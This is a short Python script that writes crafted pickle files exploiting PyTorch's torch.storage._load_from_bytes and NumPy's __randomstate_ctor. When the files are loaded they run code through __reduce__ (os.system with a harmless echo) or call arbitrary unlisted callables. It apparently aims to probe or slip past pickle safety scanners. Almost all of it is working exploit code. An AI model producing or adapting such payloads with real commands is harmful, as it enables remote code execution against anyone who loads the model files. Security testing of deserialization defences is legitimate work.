import pickle, io, torch, os
# nested torch.load via torch.storage._load_from_bytes
class E:
    def __reduce__(self): return (os.system, ('echo PWNED_nested',))
buf = io.BytesIO(); torch.save(E(), buf); inner = buf.getvalue()
p = b'\x80\x02ctorch.storage\n_load_from_bytes\nq\x00' + b'B' + len(inner).to_bytes(4,'little') + inner + b'\x85R.'
open('loadfrombytes.pkl','wb').write(p)
# legacy (non-zip) inner
buf = io.BytesIO(); torch.save(E(), buf, _use_new_zipfile_serialization=False); inner = buf.getvalue()
p = b'\x80\x02ctorch.storage\n_load_from_bytes\nq\x00' + b'B' + len(inner).to_bytes(4,'little') + inner + b'\x85R.'
open('loadfrombytes_legacy.pkl','wb').write(p)
# randomstate ctor calling unknown callable (use a dangerous-ish but unlisted: e.g. builtins.print for demo)
p = b'\x80\x02cnumpy.random._pickle\n__randomstate_ctor\nX\x0b\x00\x00\x00hello_worldcbuiltins\nprint\n\x86R.'
open('rsctor.pkl','wb').write(p)
